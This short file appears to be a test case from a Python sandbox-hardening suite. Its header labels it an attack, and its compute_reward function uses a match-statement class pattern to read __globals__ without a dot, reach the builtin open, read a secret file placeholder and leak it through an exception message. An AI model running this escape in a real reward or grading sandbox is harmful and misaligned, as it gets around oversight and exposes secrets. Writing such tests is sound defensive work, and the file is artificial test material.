# attack: a class pattern reads attributes without a dot
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    match compute_reward:
        case object(__globals__=scope):
            raise ValueError(scope["__builtins__"]["open"]("@SECRET@").read())
    return x, {}
